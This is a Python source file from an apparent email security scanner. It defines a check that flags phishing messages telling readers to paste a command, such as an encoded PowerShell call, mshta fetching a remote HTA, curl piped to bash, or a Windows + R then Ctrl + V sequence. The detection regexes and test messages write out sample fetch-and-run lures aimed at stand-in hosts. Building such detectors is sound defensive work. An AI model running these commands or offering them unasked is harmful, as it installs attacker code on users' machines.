"""Instructions to paste a command into the computer."""

from __future__ import annotations

from collections.abc import Iterable

from tocsin.identify.check import Hits, check, evidence
from tocsin.identify.examples import message
from tocsin.identify.mail import Mail
from tocsin.identify.wording import said
from tocsin.model.context import Context
from tocsin.model.verdict import Danger, Evidence, Weight


@check(
    id="shell-command",
    weight=Weight.DECISIVE,
    danger=Danger.FILE,
    attack=("T1204.004", "T1059"),
    explain={
        "en": "A shell command that fetches and runs something stands in the message, or the keys that would run one.",
        "ar": "في الرسالة أمر يجلب برنامجًا ويشغّله، أو المفاتيح التي تشغّل مثل هذا الأمر.",
    },
    phrases={
        "shell": (
            r"powershell(\.exe)? {0,3}(-\w+ ([\w.]+ )?){0,4}-(e|en|enc|ec|encodedcommand|c|command|w|ep|nop)\W",
            r"mshta(\.exe)? {0,3}.?https?:",
            r"(curl|wget) [^\n|]{3,200}\| ?(sudo )?(ba|z)?sh",
            r"osascript -e",
            r"(iex|invoke-expression) ?\(? ?(irm|iwr|new-object|invoke-)",
            r"base64 -d ?\| ?(ba|z)?sh",
            r"(msiexec|regsvr32|rundll32|certutil|bitsadmin|cmd /c)[^\n]{1,80}https?:",
        ),
        "keys": (
            r"(win|windows)( key)? ?\+ ?[rx][^\n]{0,80}(ctrl|control) ?\+ ?v",
            r"press [^\n]{0,20}(win|windows)( key)? ?\+ ?r[^\n]{0,60}paste",
        ),
    },
    hits=lambda: [
        message(text="Press Windows + R, then CTRL + V and Enter to prove you are human."),
        message(text="Run this: powershell -w hidden -enc SQBFAFgA"),
        message(text="على الطرفية: curl -s https://other.test/x | bash"),
        message(text="mshta https://other.test/x.hta"),
    ],
    misses=lambda: [
        message(text="Press Ctrl + V to paste the text into the document."),
        message(text="PowerShell is a language. Windows + R opens a window."),
        message(
            headers=[("List-Id", "<dev.lists.example>")],
            text="Install it with curl -s https://get.sender.example/x | bash",
        ),
    ],
)
def shell_command(mail: Mail, context: Context, hits: Hits) -> Iterable[Evidence]:
    """Lists of developers, and replies among them, talk of commands all day."""
    technical = mail.is_list or bool(mail.references)
    for piece in said(mail, [hit for hit in hits if hit.group == "keys" or not technical]):
        phrase = piece.facts.pop("phrase")
        yield evidence(piece.span, command=phrase)
